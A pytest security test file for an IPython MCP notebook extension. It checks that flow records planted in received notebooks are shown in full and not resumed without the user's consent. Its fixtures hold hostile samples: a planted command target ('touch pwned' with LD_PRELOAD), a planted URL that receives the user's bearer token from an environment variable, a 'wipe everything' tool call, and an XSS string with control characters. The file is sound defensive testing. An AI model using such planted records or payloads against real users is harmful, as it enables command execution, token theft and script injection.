"""Saved flows from notebooks the user did not save: nothing runs, connects or sends without consent.

Findings 2, 3, 4 and 7 of issue 9, each as a planted record in a notebook file, in both states:

* untrusted (a received notebook: the record has no signature of this user's notary secret):
  ``%mcp flows`` lists it whole, and ``%mcp resume`` refuses headless, with the flag that makes
  it explicit; nothing is started, reached or called;
* trusted (signed by ``RecordSigner``, as mcp-notebook signs what it saves), or explicitly
  consented to with ``--trust`` / the Resume button: it goes on.

Secret arguments are never saved nor traced, and a resume asks for them again.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from IPython.core.error import UsageError
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils.capture import capture_output

from mcp_notebook.core.redact import MASK, is_secret_name, secret_arguments
from mcp_notebook.errors import FlowError
from mcp_notebook.flows.record import parse_flows, record_size
from mcp_notebook.flows.store import Store
from mcp_notebook.flows.trust import RecordSigner, canonical

from ..conftest import REPO_ROOT
from ..support.kernel_harness import Kernel
from ..support.recorder import Recorder, recording


def planted(
    flow_id: str, server: dict[str, Any], name: str = "wipe", arguments: dict[str, Any] | None = None, **extra: Any
) -> dict[str, Any]:
    """A record as an attacker would write it into a notebook's metadata."""
    question = {
        "method": "elicitation/create",
        "params": {
            "message": "Go on?",
            "requestedSchema": {"type": "object", "properties": {"go": {"type": "boolean", "default": True}}},
        },
    }
    return {
        "v": 1, "id": flow_id, "cell_id": None, "server": server, "method": "tools/call", "name": name,
        "arguments": arguments if arguments is not None else {"everything": True}, "round": 1, "request_state": None,
        "pending": {"go": question}, "updated": "2026-11-30T10:00:00Z", **extra,
    }  # fmt: skip


def write_nb(path: Path, *records: dict[str, Any]) -> Path:
    nb = nbformat.v4.new_notebook()
    nb.metadata["mcp_notebook"] = {"flows": {r["id"]: r for r in records}}
    nbformat.write(nb, str(path))
    return path


# ---------------------------------------------------------------------- signatures
def test_records_are_signed_and_only_this_users_verify() -> None:
    mine, theirs = RecordSigner(b"my-secret"), RecordSigner(b"someone-else")
    record = planted("f1", {"name": "s", "target": "http://127.0.0.1:1/mcp"}, arguments={"ratio": 2.0})
    signed = mine.sign(record)
    assert signed["sig"].startswith("hmac-sha256:") and len(signed["sig"]) == len("hmac-sha256:") + 64
    assert "sig" not in record and mine.verify(signed)
    assert not theirs.verify(signed) and not mine.verify(record) and not mine.verify(theirs.sign(record))
    for field, value in [
        ("server", {"name": "s", "target": "-- touch x"}),
        ("arguments", {"ratio": 3}),
        ("name", "other"),
        ("request_state", "x"),
    ]:
        assert not mine.verify({**signed, field: value}), f"a changed {field} must not verify"
    # a record that went through the browser: 2.0 comes back as 2, and it still verifies
    assert mine.verify(json.loads(json.dumps(signed).replace("2.0", "2")))
    assert canonical(signed) == canonical(record)


def test_store_trusts_only_verified_records_and_what_this_kernel_wrote() -> None:
    signer = RecordSigner(b"user")
    store = Store(signer=signer)
    good = signer.sign(planted("good", {"name": "s", "target": "http://127.0.0.1:1/mcp"}))
    forged = {**planted("forged", {"name": "s", "target": "http://127.0.0.1:1/mcp"}), "sig": "hmac-sha256:" + "0" * 64}
    plain = planted("plain", {"name": "s", "target": "http://127.0.0.1:1/mcp"})
    added, _ = store.merge({"good": good, "forged": forged, "plain": plain}, "notebook")
    assert sorted(added) == ["forged", "good", "plain"]
    assert [store.is_trusted(i) for i in ("good", "forged", "plain")] == [True, False, False]
    store.save(planted("mine", {"name": "s", "target": "http://127.0.0.1:1/mcp"}))
    assert store.is_trusted("mine") and signer.verify(store.get("mine") or {})
    assert not store.trust("plain", store.digest("good") or "")  # consent to other content does not take
    assert not store.is_trusted("plain")
    assert store.trust("plain", store.digest("plain") or "")  # the user consented to this very record
    assert store.is_trusted("plain")
    store.delete("plain")
    assert not store.is_trusted("plain")


def test_record_size_limit_on_save_and_on_read() -> None:
    store = Store(signer=RecordSigner(b"k"), max_record_bytes=10_000)
    big = {**planted("big", {"name": "s", "target": "http://127.0.0.1:1/mcp"}), "request_state": "x" * 20_000}
    size = store.save(big)
    assert size is not None and size > 20_000 and store.get("big") is None
    assert store.save(planted("small", {"name": "s", "target": "http://127.0.0.1:1/mcp"})) is None
    records, warnings = parse_flows({"big": big}, max_bytes=10_000)
    assert records == {} and len(warnings) == 1 and f"{record_size(big):,} bytes" in warnings[0]


# ---------------------------------------------------------------------- secret arguments
@pytest.mark.parametrize(
    ("name", "secret"),
    [("password", True), ("apiKey", True), ("API_KEY", True), ("access_token", True), ("clientSecret", True), ("db_passwd", True),
     ("max_tokens", False), ("tokenizer", False), ("author", False), ("shipping_address", False), ("region", False)],
)  # fmt: skip
def test_secret_looking_names(name: str, secret: bool) -> None:
    assert is_secret_name(name) is secret


def test_secret_arguments_by_schema() -> None:
    schema = {
        "properties": {
            "pin_code": {"type": "string"},
            "zip_code": {"type": "string"},
            "key": {"type": "string", "format": "password"},
            "blob": {"type": "string", "writeOnly": True},
            "name": {"type": "string"},
        }
    }
    assert secret_arguments({"name": "a", "key": "k", "blob": "b", "token": "t"}, schema) == {
        "key",
        "blob",
        "token",
        "pin_code",
    }


VAULT = """
from mcp.server.mcpserver import MCPServer, Elicit, Resolve
from pydantic import BaseModel, Field
from typing import Annotated

class Go(BaseModel):
    go: bool = Field(description="Really?")

async def ask_go() -> Elicit[Go]:
    return Elicit("Unlock now?", Go)

sec_vault = MCPServer("sec_vault")
sec_vault_calls = []

@sec_vault.tool()
async def unlock(door: str, password: str, go: Annotated[Go, Resolve(ask_go)]) -> str:
    sec_vault_calls.append((door, password))
    return f"unlocked {door} with a password of {len(password)} characters" if go.go else "kept shut"
"""


@pytest.fixture(scope="module")
def hub(ip: InteractiveShell) -> Any:
    return ip.magics_manager.registry["MCPMagics"].session


def test_secret_arguments_are_never_saved_or_traced_and_a_resume_asks_again(
    ip: InteractiveShell, hub: Any, tmp_path: Path
) -> None:
    ip.run_cell(VAULT)
    ip.run_line_magic("mcp", "connect sec_vault sec_vault")
    with pytest.raises(FlowError, match="'go'") as refused:
        ip.run_line_magic("mcp", "call sec_vault.unlock door=front password=hunter2-secret")
    assert refused.value.code is None or isinstance(refused.value.code, int)
    (record,) = [r for r in hub.store.all() if r["server"]["name"] == "sec_vault"]
    assert record["arguments"] == {"door": "front"} and record["withheld"] == ["password"]
    assert "hunter2-secret" not in json.dumps(record)
    trace = json.dumps(hub.last_flow.trace())
    assert "hunter2-secret" not in trace and json.dumps(MASK) in trace  # the trace names it, masked
    assert ip.user_ns["sec_vault_calls"] == []

    # as "another kernel" of this user reads it from the saved notebook (a fresh id: this kernel
    # remembers that it forgot the first one): the resume asks for the password again
    hub.store.delete(record["id"])
    again = hub.store.signer.sign({**record, "id": "vault-02"})
    ip.run_line_magic("mcp", f"flows --from {write_nb(tmp_path / 'vault.ipynb', again)}")
    assert hub.store.is_trusted("vault-02")  # written by this user: signed, verified
    with pytest.raises(FlowError, match="password") as missing:
        ip.run_line_magic("mcp", "resume vault-02 --answer go=true")
    assert "not saved" in str(missing.value)
    assert ip.user_ns["sec_vault_calls"] == []
    ip.run_line_magic("mcp", "resume vault-02 --answer go=true --answer password=hunter2-secret")
    assert ip.user_ns["sec_vault_calls"] == [("front", "hunter2-secret")]
    assert hub.store.get("vault-02") is None  # finished: gone


# ---------------------------------------------------------------------- planted records
TARGET = """
from mcp.server.mcpserver import MCPServer, Elicit, Resolve
from pydantic import BaseModel, Field
from typing import Annotated

class Go(BaseModel):
    go: bool = Field(True, description="Go on?")

async def ask_go() -> Elicit[Go]:
    return Elicit("Go on?", Go)

sec_files = MCPServer("sec_files")
sec_files_calls = []

@sec_files.tool()
async def wipe(everything: bool, go: Annotated[Go, Resolve(ask_go)]) -> str:
    sec_files_calls.append(everything)
    return f"wiped everything={everything}"
"""


@pytest.fixture(scope="module")
def attacker() -> Iterator[Recorder]:
    with recording() as r:
        yield r


def refused(ip: InteractiveShell, line: str) -> str:
    with pytest.raises(UsageError) as info:
        ip.run_line_magic("mcp", line)
    return str(info.value)


def test_planted_command_is_listed_whole_and_never_run_without_consent(
    ip: InteractiveShell, hub: Any, tmp_path: Path
) -> None:
    pwned = tmp_path / "pwned"
    record = planted(
        "cmd00001", {"name": "sec_cmd", "target": f"-- touch {pwned}", "cwd": str(tmp_path), "env": ["LD_PRELOAD"]}
    )
    path = write_nb(tmp_path / "received.ipynb", record)
    with capture_output() as listing:
        ip.run_line_magic("mcp", f"flows --from {path}")
    text = listing.stdout + "".join(o.data.get("text/plain", "") for o in listing.outputs)
    assert f"runs the command: touch {pwned}" in text and f"in folder: {tmp_path}" in text
    assert "with environment variables: LD_PRELOAD" in text and 'with arguments: {"everything": true}' in text
    assert not hub.store.is_trusted("cmd00001")
    message = refused(ip, "resume cmd00001")
    assert "not saved by you" in message and "%mcp resume cmd00001 --trust" in message and f"touch {pwned}" in message
    assert not pwned.exists() and "sec_cmd" not in hub.registry
    assert hub.store.get("cmd00001") is not None  # still there, untouched

    # consent, but the record names environment variables whose values it never had: asks for them
    with pytest.raises(FlowError, match="LD_PRELOAD") as env_needed:
        ip.run_line_magic("mcp", "resume cmd00001 --trust --accept-defaults")
    assert "%mcp connect sec_cmd --env" in str(env_needed.value) and not pwned.exists()
    hub.store.delete("cmd00001")

    # consent to a record without: the command runs (and fails as an MCP server, which `touch` is not)
    bare = planted("cmd00003", {"name": "sec_cmd", "target": f"-- touch {pwned}", "cwd": str(tmp_path)})
    ip.run_line_magic("mcp", f"flows --from {write_nb(tmp_path / 'received2.ipynb', bare)}")
    refused(ip, "resume cmd00003 --accept-defaults")
    assert not pwned.exists()
    with pytest.raises(FlowError):
        ip.run_line_magic("mcp", "resume cmd00003 --trust --accept-defaults")
    assert pwned.exists()
    hub.store.delete("cmd00003")


def test_planted_url_never_receives_the_users_token_without_consent(
    ip: InteractiveShell, hub: Any, attacker: Recorder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SEC_SOME_KEY", "users-real-token-5e1f")
    record = planted("tok00001", {"name": "sec_exfil", "target": attacker.url(), "bearer_env": "SEC_SOME_KEY"})
    path = write_nb(tmp_path / "received.ipynb", record)
    ip.run_line_magic("mcp", f"flows --from {path}")
    message = refused(ip, "resume tok00001")
    assert (
        f"connects to: {attacker.url()}" in message and "sends as bearer token: the value of $SEC_SOME_KEY" in message
    )
    time.sleep(0.2)
    assert attacker.seen == [] and "sec_exfil" not in hub.registry
    assert "users-real-token-5e1f" not in message

    # with consent, what was shown is what happens: the token goes to that host
    with pytest.raises(FlowError):
        ip.run_line_magic("mcp", "resume tok00001 --trust --accept-defaults")
    assert attacker.seen and attacker.seen[0].get("Authorization") == "Bearer users-real-token-5e1f"
    hub.store.delete("tok00001")


def test_planted_arguments_on_an_open_connection_are_not_called(ip: InteractiveShell, hub: Any, tmp_path: Path) -> None:
    ip.run_cell(TARGET)
    ip.run_line_magic("mcp", "connect sec_files sec_files")
    record = planted("arg00001", {"name": "sec_files", "target": "sec_files", "in_process": True})
    path = write_nb(tmp_path / "received.ipynb", record)
    ip.run_line_magic("mcp", f"flows --from {path}")
    message = refused(ip, "resume arg00001 --accept-defaults")
    assert "calls tool: wipe" in message and 'with arguments: {"everything": true}' in message
    assert ip.user_ns["sec_files_calls"] == []

    # the same record signed by this user (a notebook they saved) goes on by itself
    path = write_nb(tmp_path / "mine.ipynb", hub.store.signer.sign({**record, "id": "arg00002"}))
    ip.run_line_magic("mcp", f"flows --from {path}")
    assert hub.store.is_trusted("arg00002") and not hub.store.is_trusted("arg00001")
    ip.run_line_magic("mcp", "resume arg00002 --accept-defaults")
    assert ip.user_ns["sec_files_calls"] == [True]


def test_a_connection_that_now_points_elsewhere_is_said_and_asked(
    ip: InteractiveShell, hub: Any, tmp_path: Path
) -> None:
    if "sec_files" not in hub.registry:
        ip.run_cell(TARGET)
        ip.run_line_magic("mcp", "connect sec_files sec_files")
    calls = ip.user_ns["sec_files_calls"]
    before = len(calls)
    record = hub.store.signer.sign(planted("moved001", {"name": "sec_files", "target": "http://127.0.0.1:9/mcp"}))
    ip.run_line_magic("mcp", f"flows --from {write_nb(tmp_path / 'mine.ipynb', record)}")
    assert hub.store.is_trusted("moved001")
    message = refused(ip, "resume moved001 --accept-defaults")
    assert "now points to sec_files" in message and "saved against http://127.0.0.1:9/mcp" in message
    assert "not saved by you" not in message and len(calls) == before
    ip.run_line_magic("mcp", "resume moved001 --accept-defaults --trust")
    assert len(calls) == before + 1


# ---------------------------------------------------------------------- interactive: the confirm panel
def test_interactive_resume_asks_with_the_whole_record(tmp_path: Path) -> None:
    pwned = tmp_path / "pwned"
    record = planted("cmd00002", {"name": "sec_cmd2", "target": f"-- touch {pwned}", "cwd": str(tmp_path)})
    write_nb(tmp_path / "received.ipynb", record)
    k = Kernel(cwd=str(tmp_path), env={"PYTHONPATH": str(REPO_ROOT)})
    try:
        k.execute("%load_ext mcp_notebook")
        k.execute("%mcp flows --from received.ipynb")
        cells: list[str] = []

        def ask() -> tuple[str, tuple[str, str]]:
            before = set(k.comms)
            cells.append(
                k.execute("%mcp resume cmd00002", allow_stdin=True, wait=False)
            )  # the cell waits for the click
            html = k.wait_for(
                lambda: [
                    s["value"]
                    for c, s in k.comms.items()
                    if c not in before
                    and s.get("_model_name") == "HTMLModel"
                    and "mcp-record-review" in str(s.get("value"))
                ],
                what="the confirm panel",
            )[0]
            yes = [c for c in k.find_widgets("ButtonModel", description="Resume") if c not in before]
            no = [c for c in k.find_widgets("ButtonModel", description="Don't resume") if c not in before]
            assert len(yes) == 1 and len(no) == 1
            return html, (yes[0], no[0])

        html, (yes, no) = ask()
        assert f"touch {pwned}" in html and str(tmp_path) in html and "not saved by you" in html
        k.click(no)
        k.wait_for(
            lambda: any(
                "stays saved" in str(m["content"].get("data", {}).get("text/plain", ""))
                for m in k.messages
                if m["msg_type"] == "update_display_data"
            ),
            what="the refusal",
        )
        k.wait_idle(cells[-1])  # Don't resume ends the cell, with nothing run
        assert not pwned.exists()

        _html, (yes, _no) = ask()
        k.click(yes)
        k.wait_for(pwned.exists, what="the consented command to run")
        k.wait_idle(cells[-1])  # `touch` is no MCP server: the resume fails, and so does its cell
        assert [m["content"]["ename"] for m in k.for_cell(cells[-1]) if m["msg_type"] == "error"] == ["FlowError"]
    finally:
        k.close()


def test_a_flow_whose_record_is_over_the_limit_is_not_saved_and_says_so(ip: InteractiveShell, hub: Any) -> None:
    if "sec_vault" not in hub.registry:
        ip.run_cell(VAULT)
        ip.run_line_magic("mcp", "connect sec_vault sec_vault")
    ip.run_line_magic("config", "MCPMagics.max_record_bytes = 4096")
    try:
        assert hub.store.max_record_bytes == 4096
        with pytest.raises(FlowError, match="'go'"):
            ip.run_line_magic("mcp", f"call sec_vault.unlock door={'d' * 5000} password=x")
        flow = hub.last_flow
        assert hub.store.get(flow.id) is None and flow.state.value == "failed"
        assert any("over the limit of 4,096" in note for note in flow.notes)
    finally:
        ip.run_line_magic("config", "MCPMagics.max_record_bytes = 1000000")


# ---------------------------------------------------------------------- %mcp flows says what each flow waits for
def test_flows_shows_the_question_as_text_one_line_and_cut(ip: InteractiveShell, hub: Any, tmp_path: Path) -> None:
    hostile = planted("asks0001", {"name": "s", "target": "http://127.0.0.1:9/mcp"})
    hostile["pending"]["go"]["params"]["message"] = (
        "<img src=x onerror=alert(1)>\x1b[31m\u202eevil\nline two " + "x" * 200
    )
    hostile["pending"]["more"] = {"method": "sampling/createMessage", "params": {}}
    ip.run_line_magic("mcp", "forget --all")  # the flows planted above (not this user's) are listed apart
    table = ip.run_line_magic(
        "mcp", f"flows --from {write_nb(tmp_path / 'asks.ipynb', hub.store.signer.sign(hostile))}"
    )
    [row] = [r for r in table.rows if r[0] == "asks0001"]
    assert table.columns[4] == "waits for"
    assert row[4].startswith("<img src=x onerror=alert(1)>\\u001b[31m\\u202eevil line two xxx") and row[4].endswith(
        "x… (+1 more)"
    )
    assert len(row[4]) == 60 + 2 * 5 + len(" (+1 more)")  # one line cut at 60, each control character spelled in 6
    html = table._repr_mimebundle_()["text/html"]
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
